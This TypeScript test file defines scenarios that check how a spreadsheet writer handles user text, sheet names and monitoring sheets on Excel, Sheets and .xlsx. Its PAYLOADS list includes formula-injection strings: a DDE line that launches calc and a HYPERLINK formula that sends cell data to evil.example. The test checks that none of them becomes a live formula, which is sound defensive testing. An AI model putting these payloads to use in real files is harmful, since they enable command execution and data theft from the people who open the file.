/**
 * THE list of host scenarios (issue 8): each one is played on the Excel fake, the Sheets fake and
 * the real .xlsx writer, observed the same way (observe.ts), checked, and the three observations
 * must be equal. A scenario's `check` runs per host and asserts values, codes and cells.
 */
import { a1, type CellValue, type Grid } from "../../core/grid";
import { WARN_FILL } from "../../core/layout/styles";
import { sheetLabel } from "../../core/i18n/labels-sheet";
import { emptyPlan, type SheetPlan } from "../../core/layout/sheet-plan";
import { klungkung, KLUNGKUNG_TEXTS } from "../fixtures/grids/klungkung";
import { cilacap, luwu } from "../fixtures/grids";
import type { HostDriver, Shape } from "./hosts";
import { observe, sheetRefs, shown, type Observed } from "./observe";

export interface Scenario {
  name: string;
  grids: Grid[];
  /** Plays the steps on one host; returns what each step left behind. */
  play(h: HostDriver): Promise<Observed[]>;
  /** Asserts on one host's observations (throws on a failure). */
  check(obs: Observed[]): void;
}

/** User text that must come back as the same text in every host. */
export const PAYLOADS = [
  "=1+1",
  "+62 812 3456",
  "-x pengaduan",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  "baris\tdengan tab\rdan CR",
  `Panjang ${"x".repeat(4992)}`,
  "Emoji 🙂📊 pengaduan",
  "نص من اليمين إلى اليسار",
  "TRUE",
  "1.1",
  "'kutip",
];

const copy = (grids: readonly Grid[]): Grid[] =>
  grids.map((g) => ({ ...g, values: g.values.map((r) => [...r]) }));

/** Klungkung with the payloads as statements, reasons, activity titles, indicator names, units. */
function withPayloads(): Grid[] {
  const grids = copy(klungkung);
  let i = 0;
  const next = () => PAYLOADS[i++ % PAYLOADS.length];
  for (const g of grids) {
    g.values.forEach((row, r) =>
      row.forEach((v, c) => {
        if (typeof v !== "string") return;
        const no = String(row[c - 1] ?? "");
        if (KLUNGKUNG_TEXTS.includes(v)) row[c] = next();
        else if (g.sheet === "Prioritas" && c === 3 && r > 2) row[c] = next();
        else if (g.sheet === "Program" && c === 2 && /^\d+\.\d+\.\d+/.test(no)) row[c] = next();
        else if (g.sheet === "Sasaran" && c === 2 && r > 3) row[c] = `${next()} (${next()})`;
      }),
    );
  }
  return grids;
}

/** Klungkung with its sheets renamed to names that look like cells, values or worse. */
export const ODD_NAMES: Record<string, string> = {
  Asesmen: "A1",
  Prioritas: "TRUE",
  Program: "R1C1",
  Sasaran: "O'Brien & Co! 2024",
  "Indikator Keberhasilan": "مؤشرات النجاح",
};

function oddNames(): Grid[] {
  return copy(klungkung).map((g) => ({ ...g, sheet: ODD_NAMES[g.sheet] ?? g.sheet }));
}

function expectEqual<T>(label: string, got: T, want: T): void {
  const a = JSON.stringify(got);
  const b = JSON.stringify(want);
  if (a !== b) throw new Error(`${label}: expected ${b.slice(0, 300)} got ${a.slice(0, 300)}`);
}

function expectWrote(o: Observed, sheet: string): void {
  expectEqual("refused", o.refused, false);
  expectEqual("mismatches", o.mismatches, []);
  if (!o.cells[sheet] || Object.keys(o.cells[sheet]).length < 10)
    throw new Error(`${sheet} was not written`);
  if (o.problems.some((p) => p.startsWith("error")))
    throw new Error(`errors: ${o.problems.join("; ")}`);
}

/** The cell under a header of the result sheet's aspect table (first aspect row). */
function underHeader(plans: SheetPlan[], label: string): { row: number; col: number } {
  const plan = plans.find((p) => p.sheet === "Hasil Renaksi")!;
  const head = plan.cells.find((c) => c.value === label)!;
  return { row: head.row + 1, col: head.col };
}

const MONEV = "Monev Renaksi";

/** The first cell under a header of the Monev sheet (first activity / indicator row). */
function monevUnder(plans: SheetPlan[], label: string): { row: number; col: number } {
  const plan = plans.find((p) => p.sheet === MONEV);
  const head = plan?.cells.find((c) => c.value === label);
  if (!head) throw new Error(`no "${label}" header on ${MONEV}`);
  return { row: head.row + 1, col: head.col };
}

/** Plays monev once, lets the user type into cells under headers, plays monev again. */
async function monevTyped(
  h: HostDriver,
  typed: [label: string, value: string][],
): Promise<{ again: Observed; at: Record<string, string> }> {
  const first = await h.run("monev");
  if (first.refused) throw new Error(`first monev refused: ${first.problems.join("; ")}`);
  const cells = typed.map(([label, value]) => ({ ...monevUnder(first.plans, label), value }));
  for (const c of cells) await h.edit(MONEV, c.row, c.col, c.value);
  const again = await observe(h, await h.run("monev"));
  const back = await h.readSheet(MONEV);
  const at: Record<string, string> = {};
  for (const c of cells) at[`${c.row},${c.col}`] = shown(back.get(`${c.row},${c.col}`));
  return { again, at };
}

const DAYS = "Jangka waktu penyelesaian pengaduan";

/**
 * Cilacap with two semester realisation columns in its indicator table ("Realisasi Semester I
 * 2021", "Realisasi Smt II 2021"), filled for days to resolve only: 2,7 and 2,4 days.
 */
function cilacapSemesterTable(): Grid[] {
  const grids = copy(cilacap);
  const g = grids.find((x) => x.sheet === "Sasaran")!;
  const head = g.values.findIndex((r) => r.includes("Target"));
  const days = g.values.findIndex((r) =>
    r.some((v) => typeof v === "string" && v.startsWith(DAYS)),
  );
  const col = Math.max(...g.values.map((r) => r.length));
  g.values = g.values.map((r) => [...r, ...Array<CellValue>(col + 2 - r.length).fill(null)]);
  g.values[head][col] = "Realisasi Semester I 2021";
  g.values[head][col + 1] = "Realisasi Smt II 2021";
  g.values[days][col] = "2,7";
  g.values[days][col + 1] = 2.4;
  return grids;
}

/** The Monev sheet's section 4 row of `DAYS` in `period` (a year, or "2021 S1"). */
function monevAt(plans: SheetPlan[], period: number | string): number {
  const cells = plans.find((p) => p.sheet === MONEV)?.cells ?? [];
  const rows = new Set(cells.filter((x) => x.col === 2 && x.value === DAYS).map((x) => x.row));
  const c = cells.find((x) => x.col === 3 && x.value === period && rows.has(x.row));
  if (!c) throw new Error(`no ${DAYS} row for ${period} on ${MONEV}`);
  return c.row;
}

const moreOverlay: Shape = (r) => {
  const p: SheetPlan = emptyPlan("Tidak Ada", "overlay");
  p.validations.push({
    range: { row: 2, col: 2, rows: 3, cols: 1 },
    list: ["1", "2", "3", "4"],
    allowBlank: true,
    message: "1-4",
  });
  return { ...r, plans: [...r.plans, p] };
};

const textCells = (o: Observed): string[] =>
  Object.values(o.cells).flatMap((s) => Object.values(s).filter((v) => v.startsWith("t:")));

export const SCENARIOS: Scenario[] = [
  {
    name: "fresh workbook",
    grids: klungkung,
    async play(h) {
      return [await observe(h, await h.run("fill")), await observe(h, await h.run("timeline"))];
    },
    check([fill, timeline]) {
      expectWrote(fill, "Hasil Renaksi");
      expectWrote(timeline, "Timeline Program");
      expectEqual("sheets", timeline.sheets.slice(-2), ["Hasil Renaksi", "Timeline Program"]);
      const formulas = Object.values(fill.cells["Hasil Renaksi"]).filter((v) => v.startsWith("f:"));
      if (formulas.length < 20) throw new Error(`only ${formulas.length} formulas`);
    },
  },
  {
    name: "re-run keeps user entries",
    grids: klungkung.filter((g) => g.sheet !== "Prioritas"),
    async play(h) {
      const first = await h.run("fill");
      const chosen = underHeader(first.plans, sheetLabel("col.chosen"));
      const reason = underHeader(first.plans, sheetLabel("col.reason"));
      await h.edit("Hasil Renaksi", chosen.row, chosen.col, 2);
      await h.edit("Hasil Renaksi", reason.row, reason.col, PAYLOADS[5]);
      const again = await observe(h, await h.run("fill"));
      const back = await h.readSheet("Hasil Renaksi");
      const at = (p: { row: number; col: number }) => shown(back.get(`${p.row},${p.col}`));
      return [{ ...again, picked: { reason: at(reason), chosen: at(chosen) } }];
    },
    check([again]) {
      expectWrote(again, "Hasil Renaksi");
      expectEqual("kept", again.picked, { reason: `t:${PAYLOADS[5]}`, chosen: "n:2" });
    },
  },
  {
    name: "user sheet named like a managed one (any letter case)",
    grids: [
      ...klungkung,
      { sheet: "hasil renaksi", origin: { row: 1, col: 1 }, values: [["catatan saya"]] },
      { sheet: "TIMELINE PROGRAM", origin: { row: 1, col: 1 }, values: [["jadwal saya"]] },
    ],
    async play(h) {
      const fill = await observe(h, await h.run("fill"));
      const timeline = await observe(h, await h.run("timeline"));
      const mine = (await h.readSheet("hasil renaksi")).get("1,1");
      return [fill, { ...timeline, picked: { A1: shown(mine) } }];
    },
    check([fill, timeline]) {
      expectEqual("fill refused", fill.refused, true);
      expectEqual("timeline refused", timeline.refused, true);
      if (!fill.problems.includes("error write.notOurs 'hasil renaksi'!A1"))
        throw new Error(`fill problems: ${fill.problems.join("; ")}`);
      if (!timeline.problems.includes("error write.notOurs 'TIMELINE PROGRAM'!A1"))
        throw new Error(`timeline problems: ${timeline.problems.join("; ")}`);
      expectEqual("sheets", fill.sheets, [
        ...klungkung.map((g) => g.sheet),
        "hasil renaksi",
        "TIMELINE PROGRAM",
      ]);
      expectEqual("user's A1", timeline.picked, { A1: "t:catatan saya" });
    },
  },
  {
    name: "overlay on a missing sheet",
    grids: klungkung,
    async play(h) {
      return [await observe(h, await h.run("fill", moreOverlay))];
    },
    check([fill]) {
      expectWrote(fill, "Hasil Renaksi");
      if (!fill.problems.includes("warning write.overlayMissing"))
        throw new Error(`problems: ${fill.problems.join("; ")}`);
      if (fill.sheets.includes("Tidak Ada")) throw new Error("the missing sheet was created");
    },
  },
  {
    name: "user chart on a managed sheet",
    grids: klungkung,
    async play(h) {
      await h.run("fill");
      await h.claimChart("Hasil Renaksi", "Diagram saya");
      return [await observe(h, await h.run("fill"))];
    },
    check([again]) {
      expectEqual("refused", again.refused, true);
      if (!again.problems.includes("error write.userObjects 'Hasil Renaksi'!A1"))
        throw new Error(`problems: ${again.problems.join("; ")}`);
    },
  },
  {
    name: "user image / shape on a managed sheet",
    grids: klungkung,
    async play(h) {
      await h.run("fill");
      await h.addObject("Hasil Renaksi", "Logo dinas");
      return [await observe(h, await h.run("fill"))];
    },
    check([again]) {
      expectEqual("refused", again.refused, true);
      if (!again.problems.includes("error write.userObjects 'Hasil Renaksi'!A1"))
        throw new Error(`problems: ${again.problems.join("; ")}`);
    },
  },
  {
    name: "refused input (Luwu: an aspect with no statement)",
    grids: luwu,
    async play(h) {
      return [await observe(h, await h.run("fill"))];
    },
    check([fill]) {
      expectEqual("refused", fill.refused, true);
      if (!fill.problems.some((p) => p.startsWith("error aspect.empty Kategorisasi!")))
        throw new Error(`problems: ${fill.problems.join("; ")}`);
      if (fill.sheets.includes("Hasil Renaksi")) throw new Error("a sheet was written");
    },
  },
  {
    name: "user text payloads (= + - @, cmd, HYPERLINK, tab/CR, 5,000 chars, emoji, RTL)",
    grids: withPayloads(),
    async play(h) {
      return [await observe(h, await h.run("fill")), await observe(h, await h.run("timeline"))];
    },
    check([fill, timeline]) {
      expectWrote(fill, "Hasil Renaksi");
      expectWrote(timeline, "Timeline Program");
      const texts = [...textCells(fill), ...textCells(timeline)];
      const found = PAYLOADS.filter((p) => texts.some((t) => t.includes(p)));
      if (found.length < PAYLOADS.length - 1)
        throw new Error(`payloads read back as text: ${found.length} of ${PAYLOADS.length}`);
      const formulas = [fill, timeline].flatMap((o) =>
        Object.values(o.cells).flatMap((s) => Object.values(s).filter((v) => v.startsWith("f:"))),
      );
      const leaked = formulas.filter((f) => /evil\.example|calc|SUM\(A1\)|HYPERLINK/.test(f));
      expectEqual("formulas made of user text", leaked, []);
    },
  },
  {
    name: "sheet names with quotes, spaces, !, non-Latin letters, A1 / R1C1 / TRUE",
    grids: oddNames(),
    async play(h) {
      return [await observe(h, await h.run("fill")), await observe(h, await h.run("timeline"))];
    },
    check([fill, timeline]) {
      expectWrote(fill, "Hasil Renaksi");
      expectWrote(timeline, "Timeline Program");
      const names = new Set([...fill.sheets, ...timeline.sheets]);
      const refs = [fill, timeline].flatMap((o) =>
        Object.values(o.cells).flatMap((s) =>
          Object.values(s)
            .filter((v) => v.startsWith("f:"))
            .flatMap((v) => sheetRefs(v.slice(2))),
        ),
      );
      if (refs.length === 0) throw new Error("no formula refers to a user sheet");
      const unknown = [...new Set(refs.filter((r) => !names.has(r)))];
      expectEqual("sheet references that name no sheet", unknown, []);
      if (!refs.includes("A1") || !refs.some((r) => r.startsWith("O'Brien")))
        throw new Error(`odd names not referred to: ${[...new Set(refs)].join(", ")}`);
    },
  },
  {
    name: "Klungkung's 22 != 21 + 0 marked in place on Hasil Renaksi, not on the user's Asesmen!D5",
    grids: klungkung,
    async play(h) {
      const out = await h.run("fill");
      const obs = await observe(h, out);
      const result = out.plans.find((p) => p.sheet === "Hasil Renaksi");
      const flagged = result?.cells.find((c) => c.source === "Asesmen!D5");
      if (!flagged) return [obs];
      const mark = await h.readMark("Hasil Renaksi", flagged.row, flagged.col);
      const user = await h.readMark("Asesmen", 5, 4);
      const line = Object.values(obs.cells["Hasil Renaksi"]).find((v) =>
        v.startsWith("t:Asesmen!D5"),
      );
      return [
        {
          ...obs,
          picked: {
            at: a1(flagged.row, flagged.col),
            fill: mark.fill,
            note: mark.note.split("\n").pop() ?? "",
            userFill: user.fill,
            userNote: user.note,
            line: line ?? "",
          },
        },
      ];
    },
    check([fill]) {
      expectWrote(fill, "Hasil Renaksi");
      const at = fill.picked?.at ?? "(no cell shows Asesmen!D5)";
      expectEqual("mark", fill.picked, {
        at,
        fill: WARN_FILL,
        note: "Lihat Catatan no. 1 di bawah lembar Hasil Renaksi / See Note no. 1",
        userFill: "",
        userNote: "",
        line: `t:Asesmen!D5 → 'Hasil Renaksi'!${at}: Jumlah pengaduan 22 tidak sama dengan diselesaikan 21 + belum diselesaikan 0 = 21`,
      });
    },
  },
  {
    name: "monev: Cilacap writes the Monev Renaksi sheet",
    grids: cilacap,
    async play(h) {
      return [await observe(h, await h.run("monev"))];
    },
    check([monev]) {
      expectWrote(monev, MONEV);
      const formulas = Object.values(monev.cells[MONEV]).filter((v) => v.startsWith("f:"));
      if (formulas.length < 10) throw new Error(`only ${formulas.length} monev formulas`);
    },
  },
  {
    name: "monev: a re-run keeps the typed status, output and kendala",
    grids: cilacap,
    async play(h) {
      const { again, at } = await monevTyped(h, [
        [sheetLabel("col.status"), "selesai"],
        [sheetLabel("col.output"), PAYLOADS[5]],
        [sheetLabel("col.kendala"), "Anggaran terlambat"],
      ]);
      return [{ ...again, picked: at }];
    },
    check([again]) {
      expectWrote(again, MONEV);
      expectEqual("kept", Object.values(again.picked ?? {}), [
        "t:selesai",
        `t:${PAYLOADS[5]}`,
        "t:Anggaran terlambat",
      ]);
    },
  },
  {
    name: "monev: an unknown status word is a warning on its cell",
    grids: cilacap,
    async play(h) {
      const { again, at } = await monevTyped(h, [[sheetLabel("col.status"), "hampir jadi"]]);
      return [{ ...again, picked: at }];
    },
    check([again]) {
      expectWrote(again, MONEV);
      expectEqual("kept", Object.values(again.picked ?? {}), ["t:hampir jadi"]);
      const w = again.problems.filter((p) => p.startsWith("warning monev.unknown-status"));
      if (w.length !== 1 || !w[0].includes(`'${MONEV}'!`))
        throw new Error(`problems: ${again.problems.join("; ")}`);
    },
  },
  {
    name: "monev: a realisation that is not a number refuses and writes nothing",
    grids: cilacap,
    async play(h) {
      const first = await h.run("monev");
      const real = monevUnder(first.plans, sheetLabel("col.realisasi"));
      await h.edit(MONEV, real.row, real.col, "tujuh puluh");
      const before = await observe(h, first);
      const again = await h.run("monev");
      const after = await observe(h, first);
      const same = JSON.stringify(before.cells) === JSON.stringify(after.cells);
      return [{ ...(await observe(h, again)), picked: { unchanged: String(same) } }];
    },
    check([again]) {
      expectEqual("refused", again.refused, true);
      expectEqual("unchanged", again.picked, { unchanged: "true" });
      const e = again.problems.filter((p) => p.startsWith("error monev.realisation-nan"));
      if (e.length !== 1 || !e[0].includes(`'${MONEV}'!`))
        throw new Error(`problems: ${again.problems.join("; ")}`);
    },
  },
  {
    name: "monev: an indicator with semester realisations in its table writes its semester rows",
    grids: cilacapSemesterTable(),
    async play(h) {
      const out = await h.run("monev");
      const s1 = monevAt(out.plans, "2021 S1");
      const o = await observe(h, out);
      const at = (a1: string) => o.cells[MONEV]?.[a1] ?? "";
      const rows = Object.keys(o.cells[MONEV] ?? {})
        .filter((k) => /^C\d+$/.test(k) && at(`B${k.slice(1)}`) === `t:${DAYS}`)
        .map((k) => at(k));
      const chart = `f:IF(ISNUMBER(F${s1}),F${s1},"")`;
      return [
        {
          ...o,
          picked: { E1: at(`E${s1}`), E2: at(`E${s1 + 1}`), rows: rows.join(","), chart },
        },
      ];
    },
    check([monev]) {
      expectWrote(monev, MONEV);
      const cells = Object.values(monev.cells[MONEV]);
      // four yearly rows, each followed by its two semester rows; its Periode said Semester
      expectEqual(
        "rows of days to resolve",
        monev.picked?.rows,
        [
          ...[2021, 2022, 2023, 2024].map((y) => `n:${y},t:${y} S1,t:${y} S2`),
          // the chart data of the reported semester (2021 S1) draws the 2021 S1 row
          monev.picked?.chart,
        ].join(","),
      );
      if (!cells.includes("t:Semester")) throw new Error("no Periode Semester");
      // 2,4 (a number) is a live reference to the user's table; "2,7" (text) is written as 2.7
      const { E1, E2 } = monev.picked ?? {};
      expectEqual("S1 realisation", E1, "n:2.7");
      if (!/^f:Sasaran!\$?[A-Z]+\$?\d+$/.test(E2)) throw new Error(`S2 not live: ${E2}`);
    },
  },
  {
    name: "monev: typed semester realisations are kept on a re-run",
    grids: cilacap,
    async play(h) {
      const first = await h.run("monev");
      const days = monevAt(first.plans, 2021);
      await h.edit(MONEV, days, 11, "Semester");
      const second = await h.run("monev");
      const s1 = monevAt(second.plans, "2021 S1");
      await h.edit(MONEV, s1, 5, 2.7);
      await h.edit(MONEV, s1 + 1, 5, "2,4");
      const again = await observe(h, await h.run("monev"));
      const back = await h.readSheet(MONEV);
      const at = (r: number, c: number) => shown(back.get(`${r},${c}`));
      return [
        {
          ...again,
          picked: {
            periode: at(days, 11),
            s1: at(s1, 5),
            s2: at(s1 + 1, 5),
            capaian: again.cells[MONEV]?.[`F${s1}`] ?? "",
          },
        },
      ];
    },
    check([again]) {
      expectWrote(again, MONEV);
      expectEqual("kept", again.picked, {
        periode: "t:Semester",
        s1: "n:2.7",
        s2: "n:2.4",
        capaian: `f:${again.picked?.capaian.slice(2)}`,
      });
      if (!again.picked?.capaian.includes("E")) throw new Error("capaian is not a formula");
    },
  },
  {
    name: "monev: a re-run after a status typed in a later semester rebuilds the sheet (regression)",
    grids: cilacap,
    async play(h) {
      // Was: Google Sheets refused (write.userObjects): its charts, known by title only, had
      // titles of the semester reported before ("% selesai per aspek, 2021 S1").
      const first = await h.run("monev");
      const status = first.plans
        .find((p) => p.sheet === MONEV)!
        .cells.filter((c) => c.value === sheetLabel("col.status"));
      const later = status[2]; // the 2022 S1 block
      await h.edit(MONEV, later.row + 1, later.col, "selesai");
      const again = await observe(h, await h.run("monev"));
      const back = await h.readSheet(MONEV);
      return [{ ...again, picked: { typed: shown(back.get(`${later.row + 1},${later.col}`)) } }];
    },
    check([again]) {
      expectWrote(again, MONEV);
      expectEqual("kept", again.picked, { typed: "t:selesai" });
      if (!Object.values(again.cells[MONEV]).includes("t:Semester dilaporkan: 2022 S1"))
        throw new Error("the reported semester did not move to 2022 S1");
    },
  },
];
